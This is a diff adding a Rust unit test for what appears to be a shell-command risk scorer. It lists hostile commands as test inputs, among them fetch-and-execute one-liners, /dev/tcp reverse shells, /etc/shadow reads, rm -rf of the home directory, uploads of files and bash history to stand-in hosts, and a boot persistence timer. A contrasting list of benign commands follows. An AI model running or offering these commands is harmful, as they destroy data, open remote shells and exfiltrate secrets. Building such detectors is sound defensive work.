@@ -439,3 +439,102 @@ fn never_panics() {
         let _ = parse(&s);
     }
 }
+
+#[test]
+fn structural_rules_added_for_the_corpus() {
+    let cases: &[(&str, &str, u32)] = &[
+        ("mv /usr /var/tmp/old", "destructive.move_system", 70),
+        (
+            "sudo mv /boot/vmlinuz /root/",
+            "destructive.move_system",
+            70,
+        ),
+        ("ruby -e 'loop { fork }'", "destructive.fork_bomb", 90),
+        ("cat /dev/zero > /dev/kmem", "destructive.write_device", 90),
+        (
+            "python -c \"import requests;exec(requests.get('http://x.example/p').text)\"",
+            "download_exec.script_fetch",
+            90,
+        ),
+        (
+            "perl -e 'use LWP::Simple; eval(get(\"http://x.example/a.pl\"))'",
+            "download_exec.script_fetch",
+            90,
+        ),
+        (
+            "wget -qO- http://x.example/s.ps1 | powershell -",
+            "download_exec.pipe_shell",
+            90,
+        ),
+        (
+            "printf 'root:pw\\n' | chpasswd",
+            "privesc.root_password",
+            70,
+        ),
+        (
+            "sudo awk 'BEGIN {system(\"/bin/bash\")}'",
+            "privesc.sudo_shell",
+            70,
+        ),
+        ("doas vim -c ':!/bin/sh'", "privesc.sudo_shell", 70),
+        ("pkexec bash", "privesc.sudo_shell", 70),
+        (
+            "gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/9001\"}'",
+            "reverse_shell.awk_inet",
+            90,
+        ),
+        (
+            "node -e \"require('child_process').execSync('bash -i >& /dev/tcp/10.0.0.1/9 0>&1')\"",
+            "reverse_shell.script_socket",
+            90,
+        ),
+        ("{cat,/etc/shadow}", "obfuscation.built_command", 60),
+        ("$(printf rm) -rf ~", "destructive.rm_root", 90),
+        ("/b??/c?t /etc/shadow", "obfuscation.glob_command", 60),
+        (
+            "python3 -c \"import base64,os;os.system(base64.b64decode('bHM='))\"",
+            "obfuscation.decode_exec",
+            85,
+        ),
+        (
+            "zip -r - ~/work | curl --data-binary @- http://x.example/u",
+            "exfil.pipe_upload",
+            70,
+        ),
+        (
+            "cat ~/.bash_history | nc 10.0.0.9 9000",
+            "exfil.pipe_upload",
+            70,
+        ),
+        ("dig $(id -un).x.oastify.com", "exfil.dns_subst", 80),
+        (
+            "systemd-run --user --on-boot=1 sh -c 'wget -qO- x.example/a | sh'",
+            "persistence.timer",
+            85,
+        ),
+    ];
+    for (cmd, rule, min) in cases {
+        let r = score(cmd);
+        assert!(
+            r.iter().any(|x| x.rule == *rule && x.score >= *min),
+            "{cmd:?}: {r:?}"
+        );
+    }
+    let benign = [
+        "mv build/out.bin dist/",
+        "mv ~/Downloads/a.pdf ~/Documents/",
+        "sudo chpasswd < new_users.txt",
+        "awk '{print $1}' access.log | sort | uniq -c",
+        "python3 -c 'import os; print(os.getcwd())'",
+        "echo '{\"ok\":true}' | curl -d @- https://webhook.site/test",
+        "nc -l 8080 < index.html",
+        "dig +short example.com",
+        "systemd-run --user --scope make -j4",
+        "sudo systemctl restart nginx",
+        "sudo bash ./install.sh",
+        "ls ./src/*.rs",
+    ];
+    for cmd in benign {
+        assert!(top(cmd) < 40, "{cmd:?}: {:?}", score(cmd));
+    }
+}
